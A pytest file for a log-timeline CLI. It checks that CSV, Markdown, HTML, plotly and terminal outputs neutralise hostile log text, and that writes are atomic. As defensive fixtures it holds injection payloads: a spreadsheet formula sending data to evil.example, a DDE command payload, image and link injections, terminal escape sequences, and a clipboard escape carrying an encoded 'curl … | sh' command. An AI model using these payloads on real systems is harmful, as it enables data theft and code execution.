"""Outputs that log text cannot subvert, written whole or not at all, and command-line values
refused in one sentence, never a traceback."""

from __future__ import annotations

import csv
import json
import os
import re

import polars as pl
import pytest
from typer.testing import CliRunner

import timeline
from timeline.cli import app
from timeline.outputs.figures import timeline_figure
from timeline.outputs.report import findings, render

runner = CliRunner()


def invoke(args: list[str]):
    """Run the CLI as a user would, on a terminal wide enough not to wrap a sentence."""
    return runner.invoke(app, args, env={"COLUMNS": "400"})


EVIL_LINK = '<a href="http://evil.example/x">X</a><b>B</b>'
EVIL_IMAGE = "![t](http://evil.example/x.png)"


def kube_proxy(messages: list[str], *, minute: int = 2) -> str:
    return "".join(
        f"E0314 18:{minute + i // 60:02d}:{i % 60:02d}.{i * 7919 % 10**6:06d}       1 "
        f"proxier.go:1520] {m}\n"
        for i, m in enumerate(messages)
    )


def quiet_syncs() -> str:
    """kube-proxy's routine syncs every three minutes before the storm: its baseline."""
    return "".join(
        f'I0314 {16 + m // 60}:{m % 60:02d}:07.000001       1 proxier.go:812] "Sync done" n={m}\n'
        for m in range(0, 110, 3)
    )


def circleci_jobs(resource_class: str, n: int = 30) -> str:
    jobs = []
    for i in range(n):
        queued = f"2023-03-14T18:{i:02d}:11.412Z"
        jobs.append(
            {
                "number": 482100 + i,
                "name": "build-and-test",
                "status": "success" if i % 5 else "failed",
                "executor": {"resource_class": resource_class, "type": "docker"},
                "created_at": f"2023-03-14T18:{i:02d}:09.871Z",
                "queued_at": queued,
                "started_at": f"2023-03-14T18:{i:02d}:{15 + i % 40:02d}.612Z",
                "stopped_at": f"2023-03-14T18:{i + 1:02d}:16.816Z",
                "duration": 61204,
                "project": {"slug": "gh/acme/api", "name": "api"},
            }
        )
    return json.dumps({"items": jobs, "next_page_token": None})


# --- 20. CSV ---------------------------------------------------------------------------


def test_parse_to_csv_neutralises_formulas(tmp_path):
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tTAB",
        "plain message",
    ]
    (tmp_path / "kube-proxy.log").write_text(kube_proxy(hostile))
    out = tmp_path / "events.csv"
    result = invoke(["parse", str(tmp_path / "kube-proxy.log"), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    messages = sorted(r["message"] for r in rows)
    assert len(messages) == 6
    for text in messages:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"open")' in messages
    assert "plain message" in messages


# --- 18. plotly ------------------------------------------------------------------------


def test_an_executor_holding_html_is_plain_text_in_every_plotly_string(write, tmp_path):
    write("circleci/jobs.json", circleci_jobs(EVIL_LINK))
    write("kube-proxy.log", kube_proxy([f'"Failed to sync" err="{EVIL_LINK}"'] * 40))
    loaded = timeline.read(tmp_path)
    figure = timeline_figure(loaded.events, timeline.analyze(loaded))
    strings = [t.name or "" for t in figure.data]
    strings += [str(h) for t in figure.data for h in (t.hovertext or [])]
    strings += [str(y) for t in figure.data for y in (t.y or []) if isinstance(y, str)]
    strings += [a.text or "" for a in figure.layout.annotations]
    assert any("&lt;a href=" in s for s in strings)
    assert not any("<a " in s or "<b>B" in s for s in strings)


# --- 19. Markdown ----------------------------------------------------------------------


def test_markdown_report_shows_link_and_image_syntax_as_text(write, tmp_path):
    write(
        "changes.csv",
        "time,type,target,description,from,to,actor\n"
        f"2023-03-14 17:55,upgrade,{EVIL_IMAGE},Upgrade [x](http://evil.example) now,"
        f"v1,v2,{EVIL_IMAGE}\n",
    )
    quiet = quiet_syncs()
    storm = kube_proxy([f'"Sync failed\r| injected | row" n={i}' for i in range(600)])
    write("kube-proxy.log", quiet + storm)
    loaded = timeline.read(tmp_path)
    text = render(findings(loaded, timeline.analyze(loaded)), format="md")
    assert text.count("evil.example") >= 2
    outside_code = re.sub(r"`[^`\n]*`", "", text)  # a code span shows its text literally
    assert "](http://evil.example" not in outside_code.replace("\\](http", "")
    assert "\r" not in text
    # the pipes stay inside their code spans: no table row is ended or made by them
    assert "| injected |" not in outside_code


# --- 21. terminal ----------------------------------------------------------------------


def test_detect_and_warnings_show_escape_sequences_escaped(tmp_path):
    name = tmp_path / "evil\x1b[2J\x1b]0;title\x07.log"
    name.write_text("nothing \x1b[31m any parser knows\n")
    for verb in (["detect"], ["parse", "-o", str(tmp_path / "e.csv")]):
        result = invoke([*verb, str(name)])
        assert "\x1b" not in result.stdout + result.stderr
        assert "\x07" not in result.stdout + result.stderr
        assert "\\x1b[2J" in result.stdout + result.stderr


# --- 17, 22. atomic outputs and arguments -------------------------------------------------


def test_a_full_disk_keeps_the_old_output_and_is_one_sentence(tmp_path, monkeypatch):
    (tmp_path / "kube-proxy.log").write_text(kube_proxy(["step"] * 5))
    out = tmp_path / "events.csv"
    out.write_text("old,events\n")

    def full(self, handle, *args, **kwargs):
        handle.write(b"partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pl.DataFrame, "write_csv", full)
    result = invoke(["parse", str(tmp_path / "kube-proxy.log"), "-o", str(out), "-q"])
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines()[-1] == (
        f"error: cannot write {out}: No space left on device"
    )
    assert out.read_text() == "old,events\n"
    assert sorted(os.listdir(tmp_path)) == ["events.csv", "kube-proxy.log"]


def test_a_report_is_replaced_whole(tmp_path, monkeypatch):
    (tmp_path / "kube-proxy.log").write_text(kube_proxy(["step"] * 5))
    out = tmp_path / "report.md"
    out.write_text("the old report\n")
    from timeline.outputs import report

    monkeypatch.setattr(report, "render", lambda *a, **k: "new report")
    result = invoke(["report", str(tmp_path / "kube-proxy.log"), "-o", str(out), "-q"])
    assert result.exit_code == 0 and out.read_text() == "new report"

    write_text = report.Path.write_text

    def disk_fills_up(self, text, *args, **kwargs):
        if text != "newer report":
            return write_text(self, text, *args, **kwargs)
        write_text(self, text[:3], *args, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report, "render", lambda *a, **k: "newer report")
    monkeypatch.setattr(report.Path, "write_text", disk_fills_up)
    result = invoke(["report", str(tmp_path / "kube-proxy.log"), "-o", str(out), "-q"])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == f"error: cannot write {out}: No space left on device"
    assert out.read_text() == "new report"
    assert sorted(os.listdir(tmp_path)) == ["kube-proxy.log", "report.md"]


BAD_ARGUMENTS = {
    "tz": ["--tz", "Not/AZone"],
    "bucket-garbage": ["--bucket", "garbage"],
    "bucket-zero": ["--bucket", "0m"],
    "year-zero": ["--year", "0"],
    "year-negative": ["--year", "-5"],
    "year-huge": ["--year", "99999"],
    "output-missing-folder": ["-o", "/missing/dir/x.csv"],
    "max-expanded": ["--max-expanded", "lots"],
    "max-ratio": ["--max-ratio", "0"],
    "since": ["--since", "the day after never"],
    "format": ["--format", "no-such-format"],
    "formats-missing": ["--formats", "/missing/formats"],
    "now": ["--now", "the twelfth of never"],
}
VERBS = {
    "parse": {"tz", "year", "output", "max", "format", "now"},
    "analyze": {"tz", "year", "bucket", "max", "since", "format", "now"},
    "report": {"tz", "year", "bucket", "output", "max", "since", "format", "now"},
    "detect": {"formats"},
    "demo": {"output"},
}


@pytest.mark.parametrize(
    ("verb", "case"),
    [
        (verb, case)
        for verb, kinds in sorted(VERBS.items())
        for case in sorted(BAD_ARGUMENTS)
        if any(case.startswith(kind) for kind in kinds)
    ],
)
def test_every_verb_refuses_every_bad_argument_in_one_sentence(tmp_path, verb, case):
    log = tmp_path / "kube-proxy.log"
    log.write_text(kube_proxy(["step"] * 5))
    paths = [] if verb == "demo" else [str(log)]
    quiet = [] if verb == "detect" else ["-q"]
    result = invoke([verb, *paths, *BAD_ARGUMENTS[case], *quiet])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and errors[0].endswith(errors[0].rstrip())
    assert result.stdout == ""


# --- terminal escapes, Markdown spans and mentions in what log text reaches -------------

#: What makes a terminal act: clear the screen, set the clipboard (OSC 52), retitle the
#: window, hide a link (OSC 8), a C1 CSI, a right-to-left override, a line feed.
TERMINAL_ATTACKS = [
    "\x1b[2J\x1b[3J\x1b[H",
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07",
    "\x1b]0;all clear\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m",
    "\u202egol.exe",
]
ACTED_ON = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("attack", TERMINAL_ATTACKS)
def test_analyze_shows_what_log_text_would_make_a_terminal_do_as_escapes(tmp_path, attack):
    """Change targets, error messages, host folders and file names carry the attack;
    every view of ``analyze`` prints it as escapes, and a host name holding markup is
    shown as written."""
    node = tmp_path / f"ip-10-0-0-6[link=https:evil]{attack[:6].replace('/', '')}" / "var" / "log"
    node.mkdir(parents=True)
    (tmp_path / "changes.csv").write_text(
        "time,type,target,description\n"
        f"2023-03-14 17:55,upgrade,daemonset/kube-proxy{attack},roll out v1.24.{attack}10\n"
    )
    quiet = quiet_syncs()
    storm = kube_proxy([f'"Sync failed {attack}" n={i}' for i in range(400)])
    (node / f"kube-proxy{attack[:4]}.log").write_text(quiet + storm)
    for extra in ([], ["-v"], ["--by-host"], ["--json"]):
        result = invoke(["analyze", str(tmp_path), "--year", "2023", *extra])
        shown = result.stdout + result.stderr
        assert result.exit_code == 0, shown
        assert not ACTED_ON.search(shown), (extra, ACTED_ON.findall(shown))
    by_host = invoke(["analyze", str(tmp_path), "--year", "2023", "--by-host"]).stdout
    assert "[link=https:evil]" in by_host


def test_markdown_report_keeps_log_text_out_of_spans_links_html_and_mentions(write, tmp_path):
    from markdown_it import MarkdownIt

    targets = [
        "```![t](http://evil.example/track.png)`",
        '``<img src="http://evil.example/px.gif"><details open><summary>ok</summary>`',
        "`[Rollback: click](http://evil.example/confirm)`",
        "x|![p](http://evil.example/pipe.png)",
        "web cc @acme/sre-oncall @octocat fixes #1 see www.evil.example/a\x1b]0;t\x07",
    ]
    write(
        "changes.csv",
        "time,type,target,description\n"
        + "".join(f'2023-03-14 17:5{k},upgrade,"{t}",roll {t}\n' for k, t in enumerate(targets)),
    )
    quiet = quiet_syncs()
    write("kube-proxy.log", quiet + kube_proxy(['"Sync failed" n=1'] * 400))
    loaded = timeline.read(tmp_path)
    text = render(findings(loaded, timeline.analyze(loaded)), format="md")
    assert text.count("evil.example") >= len(targets)
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert not re.search(r"<(?:img|a|details|summary)\b", html), html
    assert not ACTED_ON.search(text)
    prose = re.sub(r"(?<!\\)`[^`\n]*`", "", text)  # a code span shows its text literally
    assert not re.search(r"(?<![\w\\])@[a-z]|(?<![\w\\])#1\b|https?://|www\.", prose)


def test_html_report_and_its_figure_show_unseen_and_reordering_characters_as_escapes(
    write, tmp_path
):
    """A browser draws no control character and obeys a right-to-left override: the HTML
    report and the plotly strings in it show them as escapes, as the terminal does, and
    keep the line feeds of a record shown whole."""
    attacks = ["backspace\x08\x08\x08XX", "\u202egol.exe", "\x1b]0;t\x07", "\x9b31m"]
    quiet = quiet_syncs()
    storm = kube_proxy([f'"Sync failed {attacks[i % 4]}" n={i}' for i in range(400)])
    write("kube-proxy\u202egol.log", quiet + storm)
    loaded = timeline.read(tmp_path)
    analysis = timeline.analyze(loaded)
    page = render(findings(loaded, analysis), format="html")
    assert "\\u202egol.exe" in page and "backspace\\x08\\x08\\x08XX" in page
    assert not ACTED_ON.search(page), ACTED_ON.findall(page)
    figure = timeline_figure(loaded.events, analysis)
    strings = [t.name or "" for t in figure.data]
    strings += [str(h) for t in figure.data for h in (t.hovertext or [])]
    assert any("\\u202egol.log" in s for s in strings)
    assert not any(ACTED_ON.search(s) for s in strings)
